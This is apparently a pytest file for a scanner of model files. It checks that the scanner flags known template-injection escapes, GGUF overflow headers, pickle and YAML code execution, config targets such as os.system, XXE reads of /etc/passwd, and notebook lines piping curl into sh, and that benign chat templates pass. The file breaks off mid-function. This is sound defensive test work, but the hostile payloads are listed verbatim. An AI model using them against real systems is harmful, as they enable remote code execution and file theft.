"""Published bypasses and weaknesses of text formats, each as a file of its technique, with benign files of the same kind.

Sources are advisories (CVE, GHSA), threads of the peers' trackers and write-ups; every payload is inert and none is run.
"""

# ruff: noqa: E501 - a sample is one line

from __future__ import annotations

import io
import json
import struct
import time
import zipfile

import pytest
from tests.formats.scanning.chat_templates import TEMPLATES

from casemate.formats.scanning.signs import Level
from casemate.formats.scanning.walking import scan_bytes

ESCAPE = "{{ ''.__class__ }}"


def levels(data: object, name: str) -> tuple[Level, set[str]]:
    """The verdict over a file and the rules of its signs."""
    whole = data if isinstance(data, bytes) else data.encode() if isinstance(data, str) else json.dumps(data).encode()
    found = scan_bytes(whole, name)
    return found.level, {sign.rule for sign in found.signs}


HOSTILE_TEMPLATES = (  # CVE-2024-34359, CVE-2024-56326, CVE-2025-27516, CVE-2026-5760 and the cheat sheets of template injection
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    '{{ lipsum.__globals__["os"].popen(cmd).read() }}',
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''|attr('__class__')|attr('__mro__') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ ''['__cla'+'ss__'] }}",
    "{{ ''['__cla'~'ss__'] }}",
    "{{ ''[['__cla','ss__']|join] }}",
    "{{ ''|attr(['__cl','ass__']|join) }}",
    "{{ ''|attr('__ssalc__'|reverse) }}",
    "{{ ''|attr('__SSALC__'.lower()[::-1]) }}",
    "{{ ''|attr('%s%s'|format('__cla','ss__')) }}",
    "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "{{ ''|attr('{}{}'.format('__cla','ss__')) }}",
    "{{ ''|attr('{0:c}{0:c}class{0:c}{0:c}'.format(95)) }}",
    "{{ ''|attr(('_'*2)~'class'~('_'*2)) }}",
    "{% set a = '_' %}{{ ''|attr(a+a+'class'+a+a) }}",
    "{% set u = (lipsum|string|list)[18] %}{{ ''|attr(u+u+'class'+u+u) }}",
    "{% set u = ({}|select()|string|list)[24] %}{{ ''|attr(u~u~'class'~u~u) }}",
    "{% set u = (()|select|string|list).pop(24) %}{{ ''|attr([u,u,'class',u,u]|join) }}",
    "{{ dict(__class__=x)|join }}{{ ''|attr(dict(__cla=a,ss__=b)|join) }}",
    "{{ ''|attr(dict(__class__=1)|first) }}",
    "{{ ['']|map(attribute='__class__')|list }}",
    "{{ ['']|map('attr','__class__')|list }}",
    "{{ ['']|map(**{'attribute':'__class__'})|list }}",
    "{{ [''] | groupby('__class__') }}",
    "{{ [''] | sort(attribute='__class__') }}",
    "{{ [''] | sum(attribute='__class__') }}",
    "{{ [''] | selectattr('__class__.__mro__') | list }}",
    "{{ [''] | unique(attribute='__class__') | list }}",
    "{{ [''] | min(attribute='__class__') }}",
    "{{ ''.format.__globals__ }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(self) }}",
    "{{ '{0.__class__}'|format(1) }}",
    "{% set f = '{0.__class__.__init__.__globals__}'.format %}{{ f(cycler) }}",
    "{{ ('{0.__class__.__init__.__globals__}'|attr('format'))(cycler) }}",
    "{{ ['{0.__class__}'] | map('attr','format') | first }}",
    "{% set ns = namespace(f='{0.__class__.__init__.__globals__}'.format_map) %}{{ ns.f({'0': cycler}) }}",
    "{{ ['{0.__class__.__init__}']|map('format', cycler)|list }}",
    "{% set f = '{0.__class__}'|attr('format') %}{% call f(x) %}{% endcall %}",
    "{{ ([['{0.__class__.__mro__}'.format]]|first|first)(1) }}",
    "{{ dict(f='{0.__class__}'.format)['f'](1) }}",
    "{{ ['{0.__class__}']|map(attribute='format')|first }}",
    "{% for f in ['{0.__class__}'.format] %}{{ f(x) }}{% endfor %}",
    "{% macro m(f) %}{{ f(cycler) }}{% endmacro %}{{ m('{0.__init__.__globals__}'.format) }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}",
    "{{ url_for.__globals__.os.popen('id') }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ undefined.__init__.__globals__ }}",
    "{{ x.__init__.__builtins__.eval('1') }}",
    "{{ loop.__class__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{% set x = raise_exception.__globals__ %}",
    "{{ strftime_now.__globals__ }}",
    "{{ raise_exception.__code__.co_consts }}",
    "{{ messages.__class__ }}",
    "{{ (messages|attr('append')).__self__ }}",
    "{% import 'os' as os %}{{ os.popen('id') }}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% from 'x' import y %}",
    "{% set ns = namespace() %}{% set ns.x = '__class__' %}{{ ''|attr(ns.x) }}",
    "{%- set c = '__cla' -%}{%- set d = 'ss__' -%}{{ ''|attr(c~d) }}",
    "{% filter attr('__class__') %}x{% endfilter %}",
    "{% set x %}__class__{% endset %}{{ ''|attr(x) }}",
    "{% set x | attr('__class__') %}y{% endset %}",
    "{{ ''|attr('\\137\\137class\\137\\137') }}",
    "{{ ''|attr('\\N{LOW LINE}\\N{LOW LINE}class\\N{LOW LINE}\\N{LOW LINE}') }}",
    "{{ ''|attr('__clas\u017f__') }}",
    "{{ ''._\uff3fclass__ }}",
    "{{ ''.__clas\u017f__ }}",
    "{{ ''|attr('X__class__X'.strip('X')) }}",
    "{{ ''|attr('X__class__X'.split('X')[1]) }}",
    "{{ ''|attr('X__class__X'[1:-1]) }}",
    "{{ ''|attr('--class--'.replace('-','_')) }}",
    "{{ ''|attr('--class--'|replace('-','_')) }}",
    "{{ ''|attr('--class--'.translate({45:95})) }}",
    "{{ ''|attr('5f5f636c6173735f5f'|batch(2)|list) }}",
    "{{ ''|attr((messages|tojson)[3:9]) }}",
    "{{ ''|attr('__class__'|urlencode) }}",
    "{{ ''|attr('__class__'|e) }}",
    "{{ ''|attr('__class__'|trim|lower|safe) }}",
    "{{ ''|attr('__class__'|wordwrap(40)) }}",
    "{{ ''|attr(['__class__']|random) }}",
    "{{ ''|attr((['__class__']|batch(1)|first|first)) }}",
    "{{ ''|attr(({'a':'__class__'}|dictsort)[0][1]) }}",
    "{{ ''|attr(({'a':'__class__'}|xmlattr)[4:13]) }}",
    "{{ ''|attr('__class__'|truncate(99)) }}",
    "{{ ''|attr('__class__'|indent(0)) }}",
    "{{ ''|attr('__class__'.encode().decode()) }}",
    "{{ ''|attr(('%5f%5fclass%5f%5f'|urlize)) }}",
    "{{ ''|attr('__c'~'lass__' if true else 'x') }}",
    "{{ ''|attr(none or '__class__') }}",
    "{{ x|map('string')|map('attr','__class__') }}",
    "{% set attr = ''|attr %}",
    "{{ messages|tojson(indent=1000000000) }}",
    "{% for i in range(10**9) %}{% endfor %}",
    "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}",
    "{{ 'a'*10**10 }}",
    "{{ 'a'.ljust(10000000000) }}",
    "{{ '%9999999999d'|format(1) }}",
    "{{ '{:>9999999999}'.format(1) }}",
    "{{ lipsum(n=100000000) }}",
    "{{ lipsum(9999999) }}",
    "{{ 2**9999999999 }}",
    "{{ cycler('a').__class__ }}",
    "{% set x=cycler('a') %}{{ x.__init__ }}",
    "{{ [].pop.__self__ }}",
    "{{ caller.__globals__ }}",
    "{% call(x) foo() %}{{ x.__class__ }}{% endcall %}",
    "{% macro a() %}{% endmacro %}{{ a.__init__.__globals__ }}",
    "{% macro a() %}{% endmacro %}{{ a._func.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ loop|attr('_iterator')|attr('gi_frame') }}",
    "{{ (messages|map('upper')).gi_frame.f_globals }}",
    "{{ (messages|map('upper')).gi_frame.f_builtins.eval('1') }}",
    "{% for x in y recursive %}{{ loop.__class__ }}{% endfor %}",
    "{{ x is sameas ''.__class__ }}",
    "{% if ''.__class__ %}{% endif %}",
    "{% autoescape ''.__class__ %}x{% endautoescape %}",
    "{% with a=''.__class__ %}{{ a }}{% endwith %}",
    "{% do ''.__class__ %}",
    "{% generation %}{{ ''.__class__ }}{% endgeneration %}",
    "{# safe #}{% raw %}{{ x }}{% endraw %}{{ ''.__class__ }}",
    "{{ messages.append.__self__.__class__ }}",
    "{% block x %}{{ ''.__class__ }}{% endblock %}",
    "{{ ''[dict(a='__class__').a] }}",
    "{{ ''[{'a':'__class__'}['a']] }}",
    "{{ ''[{'a':'__class__'}.get('a')] }}",
    "{{ ''[('__class__',)[0]] }}",
    "{{ ''[['x','__class__'][-1]] }}",
    "{{ ''[['__class__']|last] }}",
    "{{ ''[['__class__','x']|sort|first] }}",
    "{{ ''[(['__class__']|map('string')|list)[0]] }}",
    "{{ ''[['__class__']|select('string')|first] }}",
    "{{ ''[(['__cla','ss__'])|sum(start='')] }}",
    "{{ ''[['__','class','__']|map('lower')|join] }}",
    "{{ ''['_'.join(['','','class','',''])] }}",
    "{{ ''['__class__'.__str__()] }}",
    "{{ os.system('id') }}",
    "{{ __import__('os').system('id') }}",
    "{{ get_json_schema.__globals__ }}",
    "{{ x['__in' 'it__'] }}",
    "{{ x|attr('__in' 'it__') }}",
    "{{ joiner | attr('__init__') }}",
    "{{ ''|attr(key) }}",
    "{{ x.__getattribute__('__class__') }}",
    "{{ x.__getitem__('os') }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ eval('1') }}",
    "{{ exec('1') }}",
    "{{ importlib.import_module('os') }}",
    "{{ subprocess.Popen('id') }}",
    "{{ requests.get('http://x') }}",
    "{{ builtins.eval('1') }}",
    "{% set x %}{{ '__cla' }}ss__{% endset %}{{ ''|attr(x) }}",
    "{% for c in ['__class__'] %}{{ ''|attr(c) }}{% endfor %}",
    "{{ ''|attr(*['__class__']) }}",
    "{{ ''|attr(**{'name':'__class__'}) }}",
    "{{ ''|attr(name='__class__') }}",
    "{{ [''] | map(attribute=('_'*2~'class'~'_'*2))|list }}",
    "{{ ''|attr(({'__class__':1}|list)[0]) }}",
    "{{ ''|attr('%c%c'%(95,95)~'class'~'%c%c'%(95,95)) }}",
    "{{ [''] | groupby(attribute=('_'*2~'class'~'_'*2)) }}",
    "{% macro m(a) %}{{ ''|attr(a) }}{% endmacro %}{{ m('__class__') }}",
    "{% macro m() %}{{ ''|attr(varargs[0]) }}{% endmacro %}{{ m('__class__') }}",
    "{% macro m() %}{{ ''|attr(kwargs.a) }}{% endmacro %}{{ m(a='__class__') }}",
    "{% macro m() %}{{ ''|attr(caller()) }}{% endmacro %}{% call m() %}__class__{% endcall %}",
    "{{ namespace(**{'f':'{0.__class__}'.format}).f(1) }}",
    "{% set f='{0.__cla'~'ss__}' %}{% set g=f.format %}{{ g(1) }}",
    "{% set f='{0.__cla'~'ss__}' %}{{ f|attr('format') }}",
    "{% set f='{0.__cla'~'ss__}' %}{{ f['format'](1) }}",
    "{% set f='{0:{1.__class__}}' %}{{ f.format(1,2) }}",
    "{% set f='{0.gi_frame}' %}{{ f.format(x) }}",
)


@pytest.mark.parametrize("text", HOSTILE_TEMPLATES)
def test_a_template_that_leads_out_of_itself_is_malicious(text: str) -> None:
    assert levels(text, "chat_template.jinja")[0] is Level.MALICIOUS


HARMLESS_TEMPLATES = {
    **TEMPLATES,
    "qwen3-coder": "{%- macro extra(item, handled) %}{%- for key in item if key not in handled %}{{- '\n<' ~ (key|string) ~ '>' ~ (item[key]|string) ~ '</' ~ (key|string) ~ '>' }}{%- endfor %}{%- endmacro %}{%- for tool in tools %}{%- if tool.function is defined %}{%- set tool = tool.function %}{%- endif %}{{- '<name>' ~ tool.name ~ '</name>' }}{{- extra(tool, ['type', 'name']) }}{%- endfor %}",
    "glm-4.5": "[gMASK]<sop>{%- macro visible(content) -%}{%- if content is string -%}{{- content }}{%- elif content is iterable and content is not mapping -%}{%- for item in content -%}{%- if item is mapping and item.type == 'text' -%}{{- item.text }}{%- elif item is string -%}{{- item }}{%- endif -%}{%- endfor -%}{%- endif -%}{%- endmacro -%}{%- set ns = namespace(last=-1) %}{%- for m in messages %}{%- if m.role == 'user' %}{% set ns.last = loop.index0 -%}{%- endif %}{%- endfor %}{% for m in messages %}{% set content = visible(m.content) %}{%- if '</think>' in content %}{%- set thought = content.split('</think>')[0].rstrip('\n').split('<think>')[-1].lstrip('\n') %}{%- endif %}{{ content }}{% endfor %}",
    "kimi": "{% macro render(content) -%}{%- if content is string -%}{{ content }}{%- endif -%}{%- endmacro -%}{%- if tools -%}<|im_system|>tool_declare<|im_middle|>{{ tools | tojson(separators=(',', ':')) }}<|im_end|>{%- endif -%}{%- for message in messages -%}{%- set name = message.name or message['role'] -%}<|im_{{ name }}|>{{ render(message['content']) }}{%- endfor -%}",
    "granite": "{%- set today = strftime_now('%B %d, %Y') %}{%- for message in loop_messages %}{{- '<|start_of_role|>' + message['role'] + '<|end_of_role|>' + message['content'] + '<|end_of_text|>\n' }}{%- if loop.last and add_generation_prompt %}{{- '<|start_of_role|>assistant' }}{%- if controls %}{{- ' ' + controls | tojson() }}{%- endif %}{%- endif %}{%- endfor %}",
    "llama-4": "{%- if message['content'] is string %}{{- message['content'] }}{%- else %}{%- for content in message['content'] %}{%- if content['type'] == 'image' %}{{- '<|image|>' }}{%- elif content['type'] == 'text' %}{{- content['text'] | trim }}{%- endif %}{%- endfor %}{%- endif %}",
    "prose of requests": "Answer the user's requests.get as os.system would say. {{ messages[0].content }}",  # promptfoo/modelaudit#1647
    "brackets": "{{ message[\"role\"] }}{{ x|join('|') }}{{ '%s'|format(y) }}{{ '{}'.format(z) }}",  # promptfoo/modelaudit#431
    "helpers": "{{ range(0, 10)|list }}{{ cycler('a', 'b').next() }}{{ joiner(', ')() }}{{ messages|map(attribute='content')|join }}",
    "dunder prose": "{{ '__class__' in x }}{% if name.startswith('__') %}x{% endif %}",
}


@pytest.mark.parametrize("name", HARMLESS_TEMPLATES)
def test_a_template_of_a_known_family_is_clean(name: str) -> None:
    assert levels(HARMLESS_TEMPLATES[name], "chat_template.jinja") == (Level.CLEAN, set())


def test_a_template_that_cannot_be_parsed_is_judged_by_its_words() -> None:
    assert levels("{% trans x=''.__class__ %}{{ x }}{% endtrans %}", "chat_template.jinja")[0] is Level.MALICIOUS
    assert levels("{% unknown %}", "chat_template.jinja")[0] is Level.UNREADABLE


# ------------------------------------------------------------------------------------------------------------------ GGUF


def string(text: str) -> bytes:
    return struct.pack("<Q", len(text)) + text.encode()


def pair(key: str, kind: int, value: bytes) -> bytes:
    return string(key) + struct.pack("<I", kind) + value


def tensor(name: str, shape: tuple[int, ...], kind: int = 0, at: int = 0) -> bytes:
    return string(name) + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, kind, at)


def gguf(
    *pairs: bytes, tensors: tuple[bytes, ...] = (), data: bytes = b"", counts: tuple[int, int] | None = None
) -> bytes:
    there, keys = counts or (len(tensors), len(pairs))
    head = b"GGUF" + struct.pack("<IQQ", 3, there, keys) + b"".join(pairs) + b"".join(tensors)
    return head + (b"\0" * (-len(head) % 32) if tensors else b"") + data


PICKLE = b"\x80\x04cos\nsystem\n(S'true'\ntR."
OF_TEXT, OF_ARRAYS = struct.pack("<IQ", 8, 1), struct.pack("<IQ", 9, 1)


@pytest.mark.parametrize(
    ("data", "level"),
    [
        (gguf(pair("tokenizer.chat_template", 8, string(ESCAPE))), "malicious"),
        (gguf(pair("tokenizer.chat_template.tool_use", 8, string(ESCAPE))), "malicious"),
        (gguf(pair("tokenizer.chat_template.x", 9, OF_TEXT + string(ESCAPE))), "malicious"),
        (gguf(pair("tokenizer.chat_templates", 9, OF_TEXT + string(ESCAPE))), "malicious"),
        (gguf(pair("tokenizer.chat_templates", 9, OF_TEXT + string("tool_use"))), "clean"),
        (gguf(pair("tokenizer.ggml.chat_template", 8, string(ESCAPE))), "malicious"),
        (gguf(pair("Tokenizer.Chat_Template", 8, string(ESCAPE))), "malicious"),
        (gguf(pair("tokenizer.rerank_template", 8, string(ESCAPE))), "malicious"),  # CVE-2026-5760, sglang
        (gguf(pair("general.description", 8, string(ESCAPE))), "suspicious"),
        (gguf(pair("general.description", 8, string("{{ x }} is no __class__"))), "clean"),
        (gguf(pair("tokenizer.ggml.tokens", 9, OF_TEXT + string(ESCAPE))), "clean"),
        (gguf(counts=(0, 1 << 62)), "malicious"),  # CVE-2024-21836
        (gguf(counts=(1 << 62, 0)), "malicious"),  # CVE-2024-21802
        (gguf(counts=(0, 1)) + struct.pack("<Q", (1 << 64) - 1) + b"x" * 99, "malicious"),  # CVE-2024-23496
        (gguf(pair("a", 8, struct.pack("<Q", (1 << 64) - 8))), "malicious"),  # CVE-2024-23605
        (gguf(pair("a", 9, struct.pack("<IQ", 8, 1 << 61))), "malicious"),  # CVE-2024-21825
        (gguf(pair("a", 8, struct.pack("<Q", 1 << 20))), "unreadable"),  # a file that was cut
        (gguf(counts=(0, 100)), "unreadable"),
        (gguf(pair("a", 9, OF_ARRAYS + OF_TEXT + string("b"))), "clean"),
        (gguf(tensors=(tensor("a", (1 << 32, 1 << 32)),), data=b"\0" * 16), "malicious"),  # wraps around in 64 bits
        (gguf(tensors=(tensor("a", (4,), 0, 1 << 63),), data=b"\0" * 16), "malicious"),
        (gguf(tensors=(tensor("a", (1,) * 5),), data=b"\0" * 16), "malicious"),  # ggml has room for four
        (gguf(tensors=(tensor("a", (4,), 0, 64),), data=b"\0" * 16), "suspicious"),
        (gguf(tensors=(tensor("a", (4,)), tensor("b", (4,))), data=b"\0" * 16), "suspicious"),  # overlap
        (gguf(tensors=(tensor("a", (8,)), tensor("b", (4,), 0, 8)), data=b"\0" * 32), "suspicious"),
        (gguf(tensors=(tensor("a", (4,)), tensor("a", (4,), 0, 32)), data=b"\0" * 48), "suspicious"),
        (gguf(tensors=(tensor("a", (4,)), tensor("b", (4,), 0, 32)), data=b"\0" * 48), "clean"),
        (
            gguf(
                tensors=(tensor("a", (4,)), tensor("b", (4,), 0, 32)),
                data=b"\0" * 16 + b"hidden bytes.. .." + b"\0" * 15,
            ),
            "suspicious",
        ),
        (gguf(tensors=(tensor("a", (4,), 99),), data=b"\0" * 16), "unknown"),
        (gguf(data=PICKLE), "malicious"),  # where there is no tensor
        (gguf(tensors=(tensor("a", (4,)),), data=b"\0" * 16 + PICKLE), "malicious"),
        (gguf(tensors=(tensor("a", (4,)),), data=b"\0" * 32 + PICKLE), "malicious"),
        (gguf(tensors=(tensor("a", (4,)),), data=b"\0" * 32), "clean"),
    ],
)
def test_gguf(data: bytes, level: str) -> None:
    assert levels(data, "model.gguf")[0] == level


# -------------------------------------------------------------------------------------------------------------- settings

BUNDLE = {
    "imports": ["$import glob", "$import os"], "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "datalist": "$list(sorted(glob.glob(@dataset_dir + '/*')))", "network_def": {"_target_": "UNet"}, "net": "$@network_def.to(@device)",
}  # fmt: skip
FLAVOR = {"loader_module": "mlflow.sklearn"}
MODULE = {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}


def flavor(**more: object) -> dict[str, object]:
    return {"flavors": {"python_function": {**FLAVOR, **more}}}


@pytest.mark.parametrize(
    ("settings", "level"),
    [
        ({"_attn_implementation_internal": "somebody/kernel"}, "malicious"),  # CVE-2026-4372
        ({"attn_implementation": "kernels-community/flash-attn3"}, "suspicious"),
        ({"attn_implementation": "flash_attention_2"}, "clean"),
        ({"model_type": "lightglue", "trust_remote_code": True}, "malicious"),  # CVE-2026-5241
        ({"a": {"_target_": "os.system"}}, "malicious"),  # CVE-2025-23304 (NeMo), CVE-2026-22584 (uni2TS)
        ({"a": {"_target_": "builtins.exec"}}, "malicious"),
        ({"a": {"_target_": "eval"}}, "malicious"),
        ({"a": {"_target_": "hydra.utils.get_method", "path": "os.system"}}, "malicious"),
        ({"a": {"_target_": "hydra.utils.get_method", "path": "torch.nn.functional.relu"}}, "suspicious"),
        ({"a": {"_target_": "torch.utils.cpp_extension.load_inline"}}, "malicious"),
        ({"a": {"_target_": "numpy.testing._private.utils.runstring"}}, "malicious"),
        ({"a": {"_target_": "monai.bundle.run"}}, "suspicious"),
        ({"a": {"_target_": "/tmp/x.py:go"}}, "malicious"),
        ({"a": {"_target_": "torch.optim.Adam"}, "b": {"_target_": "transformers.AutoModel.from_pretrained"}}, "clean"),
        ({"_component_": "os.system"}, "malicious"),
        ({"_component_": "torchtune.models.llama3.llama3_8b"}, "clean"),
        ({"class_path": "subprocess.Popen", "init_args": {"args": "true"}}, "malicious"),
        ({"__kind__": "instance", "class": "os.system", "args": ["true"]}, "malicious"),
        ({"__kind__": "instance", "class": "gluonts.torch.distributions.StudentTOutput"}, "clean"),
        ({"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"]}, "malicious"),  # CVE-2025-68664
        ({"lc": 1, "type": "secret", "id": ["AWS_SECRET"]}, "suspicious"),
        (BUNDLE, "clean"),
        ({**BUNDLE, "x": "$__import__('os').system('true')"}, "malicious"),
        ({**BUNDLE, "x": "$os.system('true')"}, "malicious"),
        ({"price": "$5", "home": "$HOME/x", "b": "${oc.env:HOME}"}, "clean"),
        ({"b": "${eval:'__import__(\"os\").system(\"true\")'}"}, "malicious"),
        ({"b": "${shell:ls}"}, "suspicious"),
        (flavor(model_path="model.pkl", env={"conda": "conda.yaml"}), "clean"),
        (flavor(model_path="../../../tmp/x.pkl"), "malicious"),
        (flavor(data="/etc/passwd"), "malicious"),
        (flavor(artifacts={"x": {"path": "../../x", "uri": "x"}}), "malicious"),
        (flavor(artifacts={"x": {"path": "artifacts/x", "uri": "/srv/x"}}), "clean"),
        ({"flavors": {"sklearn": {"pickled_model": "..\\..\\x.pkl"}}}, "malicious"),
        ({"base_model_name_or_path": "http://example.invalid/x"}, "suspicious"),
        ({"base_model_name_or_path": "\\\\host\\share"}, "suspicious"),
        ({"base_model_name_or_path": "meta-llama/Llama-2-7b"}, "clean"),
        ([{**MODULE, "path": "../../.."}], "malicious"),
        ([MODULE, {**MODULE, "path": "1_Pooling"}], "clean"),
        ({"activation_fn": "os.system"}, "malicious"),
        ({"activation_function": "torch.nn.modules.activation.Tanh"}, "clean"),
        ({"activation_function": "gelu_new"}, "clean"),
        ({"sbert_ce_default_activation_function": "evil.mod.X"}, "suspicious"),
        ({"prompt_template": ESCAPE}, "malicious"),
        ({"a": [ESCAPE]}, "suspicious"),
        ([{"text": ESCAPE}], "clean"),  # a row of data
        ({"description": "Use {{ var }} and {% if %}, as x.__class__ does"}, "clean"),
        ({"learner": {"attributes": {"x": "$(curl http://x.invalid|sh)"}}}, "suspicious"),
        ({"learner": {"gradient_booster": {"model": {"trees": [{"left_children": [9, -1, -1], "right_children": [2, -1, -1]}]}}}}, "suspicious"),
        ({"learner": {"gradient_booster": {"model": {"trees": [{"left_children": [1, -1, -1], "right_children": [2, -1, -1]}]}}}}, "clean"),
        ({"lang": "en", "requirements": ["evil @ git+https://example.invalid/x"]}, "suspicious"),
        ({"lang": "en", "requirements": ["spacy-transformers>=1.1,<1.2"]}, "clean"),
    ],
)  # fmt: skip
def test_settings(settings: object, level: str) -> None:
    found, rules = levels(settings, "settings.json")
    assert (found, "scan/reader-failed" in rules) == (level, False), rules


@pytest.mark.parametrize(
    ("text", "name", "level"),
    [
        ("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['true']\n", "model", "malicious"),
        ("a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n", "notes.txt", "malicious"),
        ("a: !<tag:yaml.org,2002:%70ython/object/apply:os.system> ['true']\n", "model.yaml", "malicious"),
        ("channels:\n- https://example.invalid/x\ndependencies:\n- python\n", "conda.yaml", "suspicious"),
        (
            "channels:\n- conda-forge\n- https://conda.anaconda.org/x\ndependencies:\n- python=3.11\n- pip<=24\n- pip:\n  - mlflow==2\n",
            "conda.yaml",
            "clean",
        ),
        (
            "build_dependencies:\n- git+https://example.invalid/x\ndependencies:\n- -r requirements.txt\n",
            "python_env.yaml",
            "suspicious",
        ),
        (
            "build_dependencies:\n- pip==24\n- setuptools\ndependencies:\n- -r requirements.txt\n",
            "python_env.yaml",
            "clean",
        ),
        ("-ihttps://example.invalid/s\n", "requirements.txt", "suspicious"),
        ("--index https://example.invalid/s\n", "requirements.txt", "suspicious"),  # pip takes unambiguous beginnings
        ("--extra-index-url \\\n  https://example.invalid/s\n", "requirements.txt", "suspicious"),
        ("x \\\n @ https://example.invalid/x.whl\n", "requirements.txt", "suspicious"),
        ("-r https://example.invalid/r.txt\n", "requirements.txt", "suspicious"),
        ("--extra-index-url https://download.pytorch.org@example.invalid/simple\n", "requirements.txt", "suspicious"),
        ("--extra-index-url https://download.pytorch.org/whl/cu118\ntorch\n", "requirements.txt", "clean"),
        ("torchtriton\n", "requirements.txt", "suspicious"),
        ("reqeusts\n", "requirements.txt", "suspicious"),
        ("tensorfow==2\n", "requirements.txt", "suspicious"),
        (
            "torch\ntorchvision\ndataset\ntokenizers\nscikit_learn\nPandas\nnumpy<2\nkeras\n-e .\n",
            "requirements.txt",
            "clean",
        ),
        ('[build-system]\nbuild-backend = "b"\nbackend-path = ["."]\n', "pyproject.toml", "suspicious"),
        ('[project]\ndependencies = ["x @ git+https://example.invalid/x"]\n', "pyproject.toml", "suspicious"),
        (
            '[build-system]\nrequires = ["setuptools>=61"]\n[project]\nurls = {h = "https://x.invalid"}\n',
            "pyproject.toml",
            "clean",
        ),
        ("[options]\ninstall_requires =\n  x @ git+https://example.invalid/x\n", "setup.cfg", "suspicious"),
        (
            '[nlp.tokenizer]\n@tokenizers = "spacy.Tokenizer.v1"\n[training.optimizer]\n@optimizers = "Adam.v1"\n',
            "config.cfg",
            "clean",
        ),
        ('[initialize.before_init]\n@callbacks = "evil.callback.v1"\n', "config.cfg", "suspicious"),
        ("import os; os.system('true')\n", "x.pth", "malicious"),
        ("x = 1\n", "sitecustomize.py", "suspicious"),
    ],
)
def test_lists_and_projects(text: str, name: str, level: str) -> None:
    assert levels(text, name)[0] == level


# ------------------------------------------------------------------------------------------------------------------- XML

XSL = 'xmlns:s="http://www.w3.org/1999/XSL/Transform"'
XINCLUDE = "http://www.w3.org/2001/XInclude"


@pytest.mark.parametrize(
    ("text", "level"),
    [
        (f'<PMML xmlns:q="{XINCLUDE}"><q:include href="file:///etc/passwd" parse="text"/></PMML>', "malicious"),
        (f'<root><include xmlns="{XINCLUDE}" href="http://x.invalid/"/></root>', "malicious"),
        (f"<s:stylesheet {XSL}><s:value-of select=\"document('/etc/passwd')\"/></s:stylesheet>", "malicious"),
        (f'<s:stylesheet {XSL} xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>', "malicious"),
        (f'<s:stylesheet {XSL}><s:include href="http://x.invalid/x.xsl"/></s:stylesheet>', "malicious"),
        (f'<s:stylesheet {XSL}><s:template match="/"/></s:stylesheet>', "suspicious"),
        ('<beans><bean class="java.lang.ProcessBuilder"/></beans>', "malicious"),
        ('<dynamic-proxy><handler class="java.beans.EventHandler"/></dynamic-proxy>', "malicious"),
        (
            '<!DOCTYPE r [<!ENTITY a "' + "x" * 50000 + '">]><PMML>' + "&a;" * 50000 + "</PMML>",
            "malicious",
        ),  # quadratic
        ('<!DOCTYPE PMML SYSTEM "pmml-2-0.dtd"><PMML/>', "suspicious"),
        ('<!DOCTYPE PMML SYSTEM "http://x.invalid/pmml.dtd"><PMML/>', "malicious"),
        ('<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/></PMML>', "clean"),
    ],
)
def test_xml(text: str, level: str) -> None:
    assert levels(text, "model.xml")[0] == level


def test_xml_in_wide_characters_without_a_mark_is_read() -> None:
    text = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'
    for encoding in ("utf-16-le", "utf-16-be", "utf-16"):
        assert levels(text.encode(encoding), "model.pmml")[0] is Level.MALICIOUS


# ------------------------------------------------------------------------------------------------------------- notebooks


@pytest.mark.parametrize(
    ("source", "level"),
    [
        ("%pip install git+https://example.invalid/x", "suspicious"),
        ("%pip install -q pandas==2.0", "clean"),
        ("%run http://example.invalid/y.py", "suspicious"),
        ("%run ./other.py", "clean"),
        ("%%writefile ~/.bashrc\nx", "suspicious"),
        ("%%writefile model.py\nx = 1", "clean"),
        ("%load_ext evil", "suspicious"),
        ("%load_ext autoreload\n%autoreload 2", "clean"),
        ("%alias x curl http://x.invalid | sh", "malicious"),
        ("!cu\\\nrl http://x.invalid | sh", "malicious"),
        ("%%capture\n!curl http://x.invalid | sh", "malicious"),
    ],
)
def test_magics_of_notebooks(source: str, level: str) -> None:
    cell = {"cell_type": "code", "source": source, "outputs": []}
    assert levels({"nbformat": 4, "metadata": {}, "cells": [cell]}, "n.ipynb")[0] == level


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("<script>fetch('http://x.invalid')</script>", "suspicious"),
        ("<img src=x onerror=\"fetch('//x.invalid')\">", "suspicious"),
        ("[a](http://x.invalid) <img src='a.png'> once = on", "clean"),
    ],
)
def test_scripts_in_the_text_and_widgets_of_a_notebook(text: str, level: str) -> None:
